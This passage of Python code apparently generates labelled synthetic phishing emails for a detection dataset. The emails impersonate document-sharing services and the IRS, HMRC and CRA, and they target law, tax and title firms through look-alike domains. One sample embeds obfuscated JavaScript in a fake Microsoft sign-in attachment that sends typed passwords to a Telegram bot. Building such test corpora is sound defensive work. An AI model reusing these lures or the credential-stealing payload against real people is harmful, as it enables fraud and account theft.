def a07() -> bytes:
    seed = "a07"
    sent = when("2025-07-29 08:55:03 -0500")
    rcpt = "mokonkwo@harlowbeckett.com"
    ip = f"68.178.252.{int(tok(seed + 'ip', 3, DIGITS)) % 200 + 20}"
    helo = "p3plwbeout17-04.prod.phx3.secureserver.net"
    auth = Auth("closings@heritagelandtitle.net", ip, helo, f"p3plsmtpout0{tok(seed, 2, DIGITS)}.prod.phx3.secureserver.net",
                "pass", [], None, "heritagelandtitle.net")
    target = f"https://securedoc-view.com/sp/?e={b64url(rcpt)}&id={tok(seed + 'id', 10, DIGITS)}"
    from urllib.parse import quote as q
    link = f"https://www.google.com/url?q={q(target, safe='')}&amp;sa=D&amp;sntz=1&amp;usg=AOvVaw{tok(seed + 'usg', 22, URLSAFE)}"
    inner = (row('<table width="100%" style="background:#004b87;"><tr><td style="padding:16px 24px;color:#fff;font-size:20px;'
                 'font-weight:bold;">SoftPro <span style="font-weight:normal;">Secure Email</span></td></tr></table>', "0") +
             row('<p>You have received a secure, encrypted message from <b>closings@heritagelandtitle.net</b>.</p>'
                 '<p><b>Subject:</b> Final CD, Payoff and Wire Confirmation - File 25-0921 (Brennan)</p>'
                 '<p>To view your secure message, click the link below and sign in with your email account.</p>', "20px 28px 4px") +
             row(button(link, "Read the message", "#004b87"), "8px 28px") +
             row('<p style="font-size:11px;color:#777;">This message will expire in 7 days. Secured by SoftPro Secure Email '
                 'powered by Zix. Heritage Land Title, LLC &middot; 2100 N Main St, Suite 210, Tulsa, OK 74106</p>', "20px 28px"))
    plain = (f"You have received a secure, encrypted message from closings@heritagelandtitle.net.\n\nSubject: Final CD, Payoff "
             f"and Wire Confirmation - File 25-0921 (Brennan)\n\nRead the message: {link.replace('&amp;', '&')}\n")
    mid_dom = "heritagelandtitle.net"
    mst = sent.astimezone(timezone(timedelta(hours=-7)))
    hop = (f"Received: from heritagelandtitle.net ([102.89.34.17])\n\tby p3plwbeout17.prod.phx3.secureserver.net with "
           f"SMTP\n\tid {tok(seed + 'gd', 12, URLSAFE)}; {rfc(mst)}")
    headers = [f"Date: {rfc(sent)}", 'From: "SoftPro Secure Email" <closings@heritagelandtitle.net>', f"To: {rcpt}",
               "Subject: [Secure] Final CD, Payoff and Wire Confirmation - File 25-0921",
               f"Message-ID: <{tok(seed + 'mid', 20, HEX)}.{tok(seed + 'mid2', 8, DIGITS)}@{mid_dom}>",
               "X-Sender: closings@heritagelandtitle.net", "User-Agent: Workspace Webmail 6.15.6",
               "X-Originating-IP: 102.89.34.17"]
    body = alt(plain, web_page(inner), f"=_{tok(seed + 'bd', 32, HEX)}")
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=[hop])


@sample("phish-sharefile-genuine-abuse", "phishing",
        "Genuine ShareFile 'sent you a file' notification from an attacker-created account posing as a wealth-management "
        "firm, sent to a CPA; the real sharefile.com link hosts a document that forwards to a Microsoft login kit.")
def a08() -> bytes:
    seed = "a08"
    sent = when("2025-10-14 10:03:27 -0400")
    rcpt = "t.wynn@kesslerwynncpa.com"
    hops, ip, helo, rdns = sendgrid_hop(seed, sent)
    mf = f"bounces+1843392-{tok(seed + 'b', 4, HEX)}-t.wynn=kesslerwynncpa.com@em.sf-notifications.com"
    auth = Auth(mf, ip, helo + ".sf-notifications.com", rdns + ".sf-notifications.com", "pass",
                [("sf-notifications.com", "s1", "pass")], "pass", "sf-notifications.com", "reject")
    link = f"https://wilmorefinancialpartners.sharefile.com/d-s{tok(seed + 'sf', 33, HEX)}"
    inner = (row('<img src="https://wilmorefinancialpartners.sharefile.com/api/logo" alt="Wilmore Financial Partners" height="40">', "24px 32px 8px") +
             row('<p style="font-size:16px;"><b>Daniel Wilmore</b> has sent you a file.</p>'
                 '<p style="background:#f5f7fa;padding:12px;border-left:3px solid #0d67a8;">Hi Tom, please find the Q3 '
                 'remittance advice and 1099 reconciliation for your review before the extension deadline. Thanks, Dan</p>'
                 '<p><b>Q3_Remittance_Advice_1099_Recon.pdf</b> (412 KB)</p>') +
             row(button(link, "Download", "#0d67a8")) +
             row('<p style="font-size:11px;color:#666;">This link expires on 11/13/2025. Powered by ShareFile. '
                 'ShareFile, 120 S West St, Raleigh, NC 27603</p>', "20px 32px"))
    plain = (f"Daniel Wilmore has sent you a file.\n\nHi Tom, please find the Q3 remittance advice and 1099 reconciliation "
             f"for your review before the extension deadline. Thanks, Dan\n\nQ3_Remittance_Advice_1099_Recon.pdf (412 KB)\n\n"
             f"Download: {link}\n\nThis link expires on 11/13/2025.\n")
    body = alt(plain, web_page(inner), tok(seed + "bd", 60, HEX))
    headers = [f"Date: {rfc(utc(sent))}", 'From: "Daniel Wilmore via ShareFile" <mail@sf-notifications.com>',
               "Reply-To: dwilmore@wilmorefinancialpartners.com", f"To: {rcpt}",
               "Subject: Daniel Wilmore has sent you Q3_Remittance_Advice_1099_Recon.pdf",
               f"Message-ID: <{tok(seed + 'sgm', 22, URLSAFE)}@geopod-ismtpd-{int(tok(seed + 'gp', 2, DIGITS))}>",
               f"X-SG-EID: u001.{tok(seed + 'eid', 120, URLSAFE)}"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[("sf-notifications.com", "s1")])


def ses_hop(seed: str, sent: datetime, region: str = "us-east-1") -> tuple[str, str, str]:
    a, b = int(tok(seed + "s1", 2, DIGITS)) % 30 + 1, int(tok(seed + "s2", 3, DIGITS)) % 250 + 2
    ip = f"54.240.{a}.{b}"
    helo = f"a{a}-{b}.smtp-out.amazonses.com"
    return ip, helo, helo


@sample("phish-clio-payments-ses", "phishing",
        "Fake Clio Payments 'payouts paused, verify your trust account' notice to a solo attorney from a look-alike "
        "domain sent through Amazon SES with aligned DKIM, linking to a Clio login clone on the same domain.")
def a09() -> bytes:
    seed = "a09"
    sent = when("2025-08-20 07:12:45 +0000")
    rcpt = "dana@whitcomblaw.com"
    dom = "clio-payments.support"
    ip, helo, rdns = ses_hop(seed, sent)
    mid_core = f"0100{tok(seed + 'ses', 12, HEX)}-{guid(seed + 'sg')}-000000"
    auth = Auth(f"{mid_core}@amazonses.com", ip, helo, rdns, "pass",
                [(dom, tok(seed + "sel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "pass"),
                 ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "pass", dom)
    link = f"https://account.{dom}/payments/verify?firm={tok(seed + 'firm', 8, DIGITS)}&amp;token={tok(seed + 'tk', 40, URLSAFE)}"
    inner = (row('<span style="font-size:26px;font-weight:bold;color:#0070e0;">clio</span>', "24px 32px 0") +
             row('<h2 style="font-size:20px;color:#1a1a1a;">Your payouts have been paused</h2>'
                 '<p>Hi Dana,</p><p>As part of our regular compliance review, we were unable to verify the operating and trust '
                 '(IOLTA) accounts linked to <b>Whitcomb Law</b>. Payouts of client payments totalling <b>$6,840.00</b> are on hold '
                 'until the accounts are re-verified.</p><p>Please confirm your account details within 48 hours to avoid '
                 'returning pending payments to your clients.</p>') +
             row(button(link, "Verify accounts", "#0070e0")) +
             row('<p style="font-size:12px;color:#6b6b6b;">Clio Payments is a service of Themis Solutions Inc. '
                 '4500 East Cotton Center Blvd, Phoenix, AZ 85040.</p>', "20px 32px 28px"))
    plain = (f"Your payouts have been paused\n\nHi Dana,\n\nAs part of our regular compliance review, we were unable to verify "
             f"the operating and trust (IOLTA) accounts linked to Whitcomb Law. Payouts totalling $6,840.00 are on hold.\n\n"
             f"Verify accounts: {link.replace('&amp;', '&')}\n")
    body = alt(plain, web_page(inner, bg="#f2f4f7"), f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = [f"From: Clio Payments <payments@{dom}>", f"To: {rcpt}",
               "Subject: Action required: payouts paused for Whitcomb Law", f"Date: {rfc(sent)}",
               f"Message-ID: <{mid_core}@email.amazonses.com>",
               f"Feedback-ID: ::1.us-east-1.{tok(seed + 'fb', 44, URLSAFE)}=:AmazonSES",
               f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-{ip}"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[(dom, auth.dkim[0][1]), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")])


@sample("phish-netdocuments-azure-blob", "phishing",
        "Fake NetDocuments 'document shared with you' notice from a look-alike domain on a VPS to a law-firm partner; the "
        "'Open document' link is an Azure Blob static site with the victim's address in the fragment.")
def a10() -> bytes:
    seed = "a10"
    sent = when("2024-12-03 15:30:48 -0500")
    rcpt = "tharlow@harlowbeckett.com"
    ip = "45.61.138.204"
    auth = Auth("bounce@netdocs-vault.com", ip, "mail.netdocs-vault.com", "mail.netdocs-vault.com", "pass", [], None,
                "netdocs-vault.com")
    link = f"https://ndshare{tok(seed + 'acct', 6, DIGITS)}.z13.web.core.windows.net/doc/index.html#{b64url(rcpt)}"
    inner = (row('<table width="100%" style="background:#1b365d;"><tr><td style="padding:14px 24px;color:#ffffff;font-size:18px;">'
                 '<b>NetDocuments</b></td></tr></table>', "0") +
             row('<p><b>Meredith Okonkwo</b> has shared a document with you.</p>'
                 '<table cellpadding="6" style="border:1px solid #dde3ea;width:100%;"><tr><td><b>Settlement Agreement - Executed '
                 '(Brennan v. Castlegate).pdf</b><br><span style="color:#777;">Cabinet: Litigation &middot; Workspace: '
                 '2024-0117 Brennan</span></td></tr></table>', "20px 28px 8px") +
             row(button(link, "Open document", "#1b365d"), "8px 28px") +
             row('<p style="font-size:11px;color:#888;">NetDocuments Software, Inc. &middot; 2500 W Executive Pkwy, Lehi, UT 84043</p>',
                 "20px 28px"))
    return phpmailer_mail(seed, rcv="m365", rcpt=rcpt, from_="NetDocuments <notification@netdocs-vault.com>",
                          to=rcpt, subject="Meredith Okonkwo shared \"Settlement Agreement - Executed\" with you",
                          sent=sent, html_body=web_page(inner), auth=auth)


@sample("phish-imanage-html-credential", "phishing",
        "iManage 'completion pack shared' lure from a compromised estate agent's Microsoft 365 mailbox to a conveyancer, "
        "carrying an HTML attachment that imitates the Microsoft sign-in page and posts the password to a Telegram bot.")
def a11() -> bytes:
    seed = "a11"
    sent = when("2025-03-06 12:41:19 +0000")
    rcpt = "conveyancing@ashbyfenwick.co.uk"
    payload = ("const u='conveyancing@ashbyfenwick.co.uk';document.getElementById('em').textContent=u;"
               "document.getElementById('f').onsubmit=async e=>{e.preventDefault();const p=document.getElementById('pw').value;"
               "await fetch('https://api.telegram.org/bot7493021855:AAF"
               + tok(seed + "bot", 32, URLSAFE) + "/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},"
               "body:JSON.stringify({chat_id:'-100" + tok(seed + "chat", 10, DIGITS) + "',text:u+' | '+p})});"
               "location.href='https://www.office.com/';};")
    enc_payload = base64.b64encode(payload.encode()).decode()
    html_att = ("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Sign in to your account</title>\n"
                "<style>body{font-family:'Segoe UI',sans-serif;background:#f2f2f2}.box{width:440px;margin:80px auto;background:#fff;"
                "padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:none;border-bottom:1px solid #666;"
                "padding:6px 0;font-size:15px}button{background:#0067b8;color:#fff;border:none;padding:8px 32px;float:right}</style>\n"
                "</head><body><div class=\"box\"><img src=\"https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg\" alt=\"Microsoft\">\n"
                "<p style=\"font-size:13px;color:#555\">iManage Work &ndash; Completion Pack 14 Plumtree Close.pdf</p>\n"
                "<div id=\"em\" style=\"font-size:15px\"></div><h2 style=\"font-weight:600\">Enter password</h2>\n"
                "<form id=\"f\"><input id=\"pw\" type=\"password\" placeholder=\"Password\" required><br><br>"
                "<button type=\"submit\">Sign in</button></form></div>\n"
                "<script>\n" + "\n".join(f"var _0x{i:02x}='{enc_payload[j:j + 64]}';" for i, j in
                                          enumerate(range(0, len(enc_payload), 64))) + "\n"
                "eval(atob([" + ",".join(f"_0x{i:02x}" for i in range(len(range(0, len(enc_payload), 64)))) + "].join('')));\n"
                "</script></body></html>\n")
    att = Leaf("text/html", html_att.encode(), "base64", '; name="iManage_Completion_Pack_Plumtree.html"',
               'attachment; filename="iManage_Completion_Pack_Plumtree.html"')
    paras = [
        "Hi,", "",
        "Please find the completion pack for 14 Plumtree Close shared via iManage Work. The buyer's solicitor has asked "
        "for the signed TR1 and completion information by 2pm.", "",
        "Open the attached secure document and sign in with your work email to view.", "",
        "Many thanks", "",
        "Chloe Barraclough", "Sales Progressor | Pennine Estates", "0113 555 0192",
    ]
    return outlook_mail(seed, rcv="m365uk", rcpt=rcpt, sender=("Chloe Barraclough", "chloe@pennineestates.co.uk"),
                        to=rcpt, subject="iManage Work: Completion Pack - 14 Plumtree Close shared with you",
                        sent=sent, paras=paras, attachments=[att], region="eurprd", lang="en-GB", policy_="none")


@sample("phish-adobe-sign-qr-pdf", "phishing",
        "Adobe Acrobat Sign lure to a Toronto real-estate law firm from a compromised brokerage domain, with a PDF whose "
        "only call to action is a QR code pointing at a credential-harvesting page (quishing).")
def a12() -> bytes:
    seed = "a12"
    sent = when("2025-06-17 09:26:40 -0400")
    rcpt = "reception@okaforlindqvist.ca"
    ip = "162.241.218.76"
    helo = "box5412.bluehost.com"
    auth = Auth("echosign@tcgrealtygroup.ca", ip, helo, helo, "pass", [("tcgrealtygroup.ca", "default", "pass")], None,
                "tcgrealtygroup.ca")
    qr_url = f"https://acrobat-sign-review.{tok(seed + 'dom', 6)}.click/aps/?d={b64url(rcpt)}"
    pdf_bytes = qr_pdf(qr_url, [
        "Adobe Acrobat Sign",
        "",
        "Agreement of Purchase and Sale - 88 Birchmount Rd, Scarborough ON",
        "Sent by: TCG Realty Group, Brokerage",
        "Status: Waiting for your signature (2 of 3)",
        "",
        "This agreement is protected. To review and e-sign on a secure device,",
        "scan the QR code below with your phone camera.",
    ], "APS_88_Birchmount", "Scan to review and sign - expires in 24 hours")
    att = attachment("application/pdf", "APS_88_Birchmount_Signature_Required.pdf", pdf_bytes)
    html_body = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;">\n'
                 '<p><b>TCG Realty Group</b> has sent you <b>Agreement of Purchase and Sale - 88 Birchmount Rd</b> to sign.</p>\n'
                 '<p>The agreement is attached as a protected document. Open the attachment and scan the code with your mobile '
                 'device to review and sign.</p>\n<p>Thank you,<br>Adobe Acrobat Sign</p>\n'
                 '<p style="font-size:11px;color:#888;">Powered by Adobe Acrobat Sign. Adobe Inc., 345 Park Avenue, San Jose, CA 95110</p>\n'
                 '</body></html>\n')
    plain = ("TCG Realty Group has sent you Agreement of Purchase and Sale - 88 Birchmount Rd to sign.\n\n"
             "The agreement is attached as a protected document. Open the attachment and scan the code with your mobile device "
             "to review and sign.\n\nThank you,\nAdobe Acrobat Sign\n")
    hop = (f"Received: from [102.88.{int(tok(seed + 'x', 2, DIGITS)) + 10}.{int(tok(seed + 'y', 2, DIGITS)) + 30}] (port=52214 helo=[127.0.0.1])\n"
           f"\tby {helo} with esmtpsa  (TLS1.3) tls TLS_AES_128_GCM_SHA256\n\t(Exim 4.96.2)\n"
           f"\t(envelope-from <echosign@tcgrealtygroup.ca>)\n\tid 1{tok(seed + 'e', 5, URLSAFE.replace('-', 'x').replace('_', 'y'))}-{tok(seed + 'e2', 6, UPALNUM)}-{tok(seed + 'e3', 2, UPALNUM)};\n\t{rfc(sent)}")
    return phpmailer_mail(seed, rcv=CALAW_MX, rcpt=rcpt, from_="Adobe Acrobat Sign <echosign@tcgrealtygroup.ca>",
                          to=rcpt, subject="Signature requested on \"Agreement of Purchase and Sale - 88 Birchmount Rd\"",
                          sent=sent, html_body=html_body, plain=plain, auth=auth, attachments=[att], hop=hop,
                          sign=[("tcgrealtygroup.ca", "default")])


# --------------------------------------------------------------------------------------------------------------
# attacks 13-25: partner shares, tax-agency, regulator and court lures, intake scams
# --------------------------------------------------------------------------------------------------------------

def microsoft_platform_auth(seed: str, mailfrom: str, from_domain: str, region: str = "namprd") -> Auth:
    ip, helo, rdns = m365_out_ip(seed, region)
    return Auth(mailfrom, ip, helo, rdns, "pass", [(from_domain, "selector1", "pass")], "pass", from_domain, "reject")


@sample("phish-sharepoint-partner-onenote", "phishing",
        "Genuine SharePoint Online sharing notification sent from a compromised partner title agency's Microsoft 365 "
        "tenant to an escrow officer; the shared item is a OneNote page on the partner's OneDrive that links to a kit.")
def a13() -> bytes:
    seed = "a13"
    sent = when("2025-01-22 11:14:05 -0600")
    rcpt = "kbrandt@ridgelinetitle.com"
    auth = microsoft_platform_auth(seed, "no-reply@sharepointonline.com", "sharepointonline.com")
    link = (f"https://lindgrenabstract-my.sharepoint.com/:o:/g/personal/erin_lindgrenabstract_com/"
            f"E{tok(seed + 'sp', 42, URLSAFE)}?e={tok(seed + 'e', 6, URLSAFE)}")
    inner = (row('<p style="font-size:21px;color:#242424;">Erin Lindgren shared a file with you</p>', "28px 32px 0") +
             row('<table cellpadding="0" cellspacing="0" style="border-left:4px solid #0f6cbd;"><tr><td style="padding:6px 12px;'
                 'font-size:15px;color:#424242;">Here are the escrow docs and payoff letters for the Hampden closing. '
                 'Please review and confirm.</td></tr></table>', "8px 32px") +
             row(f'<table cellpadding="12" style="border:1px solid #e0e0e0;width:100%;"><tr><td><img src="https://res.cdn.office.net/files/'
                 f'fabric-cdn-prod_20240925.001/assets/item-types/48/one.png" width="32" alt=""></td><td><a href="{link}" '
                 'style="color:#242424;font-weight:600;text-decoration:none;">Lindgren Abstract - Escrow Docs</a></td></tr></table>') +
             row(button(link, "Open", "#0f6cbd")) +
             row('<p style="font-size:12px;color:#616161;">This link will work for anyone.</p>'
                 '<p style="font-size:12px;color:#616161;"><a href="https://go.microsoft.com/fwlink/?LinkId=521839" '
                 'style="color:#616161;">Privacy Statement</a></p>'
                 '<p style="font-size:11px;color:#616161;">This email is generated through Lindgren Abstract &amp; Title\'s use of '
                 'Microsoft 365 and may contain content that is controlled by Lindgren Abstract &amp; Title.</p>'
                 '<p style="font-size:11px;color:#616161;">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>', "16px 32px 28px"))
    plain = ("Erin Lindgren shared a file with you\n\nHere are the escrow docs and payoff letters for the Hampden closing. "
             f"Please review and confirm.\n\nLindgren Abstract - Escrow Docs\n{link}\n\nThis link will work for anyone.\n\n"
             "Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839\n\nMicrosoft Corporation, One Microsoft Way, "
             "Redmond, WA 98052\n")
    body = alt(plain, web_page(inner, bg="#ffffff", font="'Segoe UI',Tahoma,sans-serif"), f"_000_{tok(seed + 'b', 40, UPALNUM)}_")
    mid = f"<{guid(seed + 'mid')}@odspnotify>"
    headers = ["From: Erin Lindgren <no-reply@sharepointonline.com>", f"To: {rcpt}",
               "Subject: Erin Lindgren shared \"Lindgren Abstract - Escrow Docs\" with you", f"Date: {rfc(utc(sent))}",
               f"Message-ID: {mid}", "Reply-To: Erin Lindgren <erin@lindgrenabstract.com>",
               "X-MS-Has-Attach:", "X-MS-TNEF-Correlator:"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    hops=[m365_out_hop(seed, sent)], sign=[("sharepointonline.com", "selector1")])


@sample("phish-onedrive-lookalike-bing-redirect", "phishing",
        "Custom 'shared a file with you' email from a compromised bookkeeping firm's Google Workspace mailbox to a "
        "Vancouver accounting firm; the link is a Bing click-tracking open redirect to a Cloudflare Workers login kit.")
def a14() -> bytes:
    seed = "a14"
    sent = when("2025-03-27 10:51:33 -0700")
    rcpt = "amandeep@pacificledgercpa.ca"
    target = f"https://doc-share-{tok(seed + 'wk', 6)}.{tok(seed + 'acc', 8)}.workers.dev/?u={b64url(rcpt)}"
    u = "a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    link = (f"https://www.bing.com/ck/a?!&amp;&amp;p={tok(seed + 'p', 64, HEX)}JmltdHM9MTc0MzAzMzYwMA&amp;ptn=3&amp;ver=2"
            f"&amp;hsh=4&amp;fclid={guid(seed + 'fc')}&amp;u={u}&amp;ntb=1")
    paras = [
        '<table cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1;width:460px;font-family:Segoe UI,Arial;">'
        '<tr><td style="padding:18px 22px;"><span style="font-size:18px;">Jenny Nguyen shared a file with you</span><br><br>'
        '<span style="color:#555;">2024 T2 Corporate Return - Supporting Docs.pdf</span><br><br>'
        f'<a href="{link}" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none;">Open</a>'
        '<br><br><span style="font-size:11px;color:#888;">Microsoft OneDrive &middot; This link only works for the direct '
        'recipients of this message.</span></td></tr></table>',
        "",
        "Jenny Nguyen, CPB", "Nguyen Bookkeeping Services Ltd.", "Burnaby, BC | 604-555-0138",
    ]
    return gmail_mail(seed, rcv="m365ca", rcpt=rcpt, sender=("Jenny Nguyen", "jenny@nguyenbookkeeping.ca"),
                      to=rcpt, subject="Jenny Nguyen shared \"2024 T2 Corporate Return - Supporting Docs\" with you",
                      sent=sent, paras=paras, workspace=True, policy_="none")


@sample("phish-irs-eservices-suspended", "phishing",
        "IRS e-Services impersonation to a tax preparer from a look-alike domain on a VPS (PHPMailer), claiming the account "
        "and Transcript Delivery System access are suspended pending ID.me re-verification, linking to a login clone.")
def a15() -> bytes:
    seed = "a15"
    sent = when("2025-02-18 06:04:11 -0500")
    rcpt = "office@moralestax.com"
    ip = "193.149.176.41"
    auth = Auth("no-reply@irs-esrvcs.org", ip, "irs-esrvcs.org", "vps-41.hostsailor.net", "pass", [], None, "irs-esrvcs.org")
    link = f"https://irs-esrvcs.org/e-services/secure-access/?ref={tok(seed + 'ref', 10, UPALNUM)}&amp;tp={b64url(rcpt)}"
    inner = (row('<table width="100%" style="background:#00599c;"><tr><td style="padding:14px 24px;color:#fff;font-size:24px;'
                 'font-weight:bold;font-family:Georgia,serif;">IRS</td></tr></table>', "0") +
             row('<h2 style="color:#1b1b1b;">e-Services Account Suspended</h2>'
                 '<p>Dear Tax Professional,</p><p>Our records indicate that your e-Services account associated with EFIN '
                 '<b>74xxxx</b> has not completed the updated Secure Access identity verification required under the IRS '
                 'Modernized e-File security guidelines for the 2025 filing season.</p>'
                 '<p>As a result, access to the <b>Transcript Delivery System (TDS)</b>, <b>e-File Application</b> and '
                 '<b>TIN Matching</b> has been temporarily suspended. Returns transmitted under this EFIN may be rejected.</p>'
                 '<p>To restore access, complete the verification within 24 hours:</p>', "20px 28px 4px") +
             row(button(link, "Restore e-Services Access", "#00599c"), "8px 28px") +
             row('<p style="font-size:12px;color:#555;">Internal Revenue Service &middot; e-Help Desk &middot; '
                 'This is an automated message, please do not reply.</p>', "20px 28px"))
    return phpmailer_mail(seed, rcv=TAXPREP_MX, rcpt=rcpt, from_="IRS e-Services <no-reply@irs-esrvcs.org>", to=rcpt,
                          subject="Urgent: e-Services account suspended - action required before filing",
                          sent=sent, html_body=web_page(inner), auth=auth)


@sample("phish-ptin-efin-bitly-cpanel", "phishing",
        "PTIN renewal / EFIN deactivation lure to a CPA firm sent from a compromised dental office's cPanel mailbox "
        "(SPF and DKIM pass for that unrelated domain), with a bit.ly link to a fake Tax Pro Account login.")
def a16() -> bytes:
    seed = "a16"
    sent = when("2025-11-04 08:47:26 -0600")
    rcpt = "staff@kesslerwynncpa.com"
    ip = "192.254.233.18"
    helo = "gator4106.hostgator.com"
    auth = Auth("info@mountainviewdentalcare.com", ip, helo, helo, "pass", [("mountainviewdentalcare.com", "default", "pass")],
                None, "mountainviewdentalcare.com")
    link = f"https://bit.ly/4{tok(seed + 'bl', 6, URLSAFE.replace('-', '').replace('_', ''))}"
    html_body = ('<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222;">\n'
                 '<p><b>Tax Pro Account &ndash; PTIN Renewal Notice (2026)</b></p>\n'
                 '<p>Dear Preparer,</p>\n<p>All PTINs expire on December 31, 2025. Our records show that your PTIN renewal is '
                 'incomplete and that the EFIN linked to your firm is scheduled for <b>deactivation</b> due to a mismatch in '
                 'your Tax Pro Account identity records.</p>\n'
                 f'<p>Renew and validate your PTIN now: <a href="{link}">{link}</a></p>\n'
                 '<p>Preparers who do not renew cannot legally prepare returns for compensation in 2026.</p>\n'
                 '<p>Return Preparer Office<br>Internal Revenue Service</p>\n</body></html>\n')
    plain = to_plain(html_body.replace("</p>", "</p>\n"))
    hop = (f"Received: from [185.213.{int(tok(seed, 2, DIGITS)) + 100}.{int(tok(seed + 'q', 2, DIGITS)) + 20}] (port=61022 helo=WIN-{tok(seed + 'w', 11, UPALNUM)})\n"
           f"\tby {helo} with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n"
           f"\t(envelope-from <info@mountainviewdentalcare.com>)\n\tid 1{tok(seed + 'e', 5, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz')}-{tok(seed + 'e2', 6, UPALNUM)}-{tok(seed + 'e3', 2, UPALNUM)};\n\t{rfc(sent)}")
    return phpmailer_mail(seed, rcv="m365", rcpt=rcpt, from_='"Tax Pro Account (IRS)" <info@mountainviewdentalcare.com>',
                          to="undisclosed-recipients:;", subject="PTIN Renewal Incomplete - EFIN Deactivation Scheduled",
                          sent=sent, html_body=html_body, plain=plain, auth=auth, hop=hop,
                          sign=[("mountainviewdentalcare.com", "default")], xmailer=None,
                          extra=["X-Priority: 1 (Highest)"])


@sample("phish-hmrc-agent-services-redirect", "phishing",
        "HMRC Agent Services impersonation in GOV.UK style to a UK accounting practice, from a look-alike .uk domain on a "
        "VPS, linking through a compromised restaurant WordPress site's redirect to a Government Gateway clone.")
def a17() -> bytes:
    seed = "a17"
    sent = when("2025-01-09 07:33:58 +0000")
    rcpt = "accounts@thornburyhale.co.uk"
    ip = "51.89.167.203"
    dom = "agentservices-hmrc.uk"
    auth = Auth(f"noreply@{dom}", ip, f"mail.{dom}", f"vps-{tok(seed, 8, HEX)}.vps.ovh.net", "pass",
                [(dom, "mail", "pass")], "none", dom)
    from urllib.parse import quote as q
    target = f"https://gateway-hmrc-agents.{dom.split('.')[0]}-portal.com/asa/signin?arn={tok(seed + 'arn', 7, UPALNUM)}"
    link = f"https://www.tuscanyvillagrill.com/wp-content/plugins/sf-redirect/go.php?u={q(target, safe='')}"
    inner = (row('<table width="100%" style="background:#0b0c0c;"><tr><td style="padding:12px 24px;color:#fff;font-size:24px;'
                 'font-weight:bold;">GOV.UK</td></tr></table>', "0") +
             row('<p style="font-size:19px;"><b>Your agent services account needs to be re-verified</b></p>'
                 '<p>Dear Agent,</p><p>To comply with new anti-money laundering supervision requirements, all agent services '
                 'accounts must confirm their Government Gateway credentials and supervisory body details before '
                 '31 January 2025.</p><p>If you do not confirm, your authorisations to act for Self Assessment and VAT '
                 'clients will be removed and you will not be able to file returns for your clients.</p>'
                 f'<p><a href="{link}" style="color:#1d70b8;font-size:19px;">Confirm your agent services account</a></p>'
                 '<p>HM Revenue and Customs</p>', "20px 28px") +
             row('<p style="font-size:13px;color:#505a5f;">This is an automated email &ndash; please do not reply.</p>', "0 28px 24px"))
    plain = ("Your agent services account needs to be re-verified\n\nDear Agent,\n\nTo comply with new anti-money laundering "
             "supervision requirements, all agent services accounts must confirm their Government Gateway credentials before "
             f"31 January 2025.\n\nConfirm your agent services account: {link}\n\nHM Revenue and Customs\n")
    return phpmailer_mail(seed, rcv="fastmail", rcpt=rcpt, from_=f"HMRC Agent Services <noreply@{dom}>", to=rcpt,
                          subject="Action required: confirm your agent services account before 31 January",
                          sent=sent, html_body=web_page(inner, font="Arial,sans-serif"), plain=plain, auth=auth,
                          sign=[(dom, "mail")])


@sample("phish-cra-representer-client-fr", "phishing",
        "French-language Canada Revenue Agency impersonation to a Quebec notary office warning that 'Représenter un "
        "client' access will be suspended, from a look-alike domain with its own DKIM, linking to a credential clone.")
def a18() -> bytes:
    seed = "a18"
    sent = when("2025-04-23 14:26:07 -0400")
    rcpt = "comptabilite@gagnonnotaires.ca"
    dom = "arc-canada-gc.ca"
    ip = "91.92.243.118"
    auth = Auth(f"avis@{dom}", ip, f"mail.{dom}", None, "pass", [(dom, "s2025", "pass")], None, dom)
    link = f"https://{dom}/representer-client/connexion?jeton={tok(seed + 'j', 24, URLSAFE)}"
    inner = (row('<table width="100%" style="border-bottom:4px solid #26374a;"><tr><td style="padding:12px 24px;font-size:15px;">'
                 '<b>Gouvernement du Canada</b> | Government of Canada</td></tr></table>', "0") +
             row('<h2 style="color:#26374a;">Avis important &ndash; Représenter un client</h2>'
                 '<p>Bonjour,</p><p>L\'Agence du revenu du Canada (ARC) procède à la validation annuelle des représentants '
                 'autorisés. Votre numéro de représentant (RepID) n\'a pas été confirmé dans nos dossiers.</p>'
                 '<p>Sans confirmation d\'ici le <b>30 avril 2025</b>, votre accès au service « Représenter un client » sera '
                 'suspendu et vous ne pourrez plus consulter les renseignements fiscaux de vos clients pendant la période '
                 'de déclaration.</p>', "20px 28px 4px") +
             row(button(link, "Confirmer mon accès", "#26374a"), "8px 28px") +
             row('<p style="font-size:12px;color:#555;">Agence du revenu du Canada &middot; Ceci est un message automatique, '
                 'veuillez ne pas y répondre.</p>', "20px 28px"))
    plain = ("Avis important - Représenter un client\n\nBonjour,\n\nL'Agence du revenu du Canada (ARC) procède à la validation "
             "annuelle des représentants autorisés. Votre numéro de représentant (RepID) n'a pas été confirmé.\n\n"
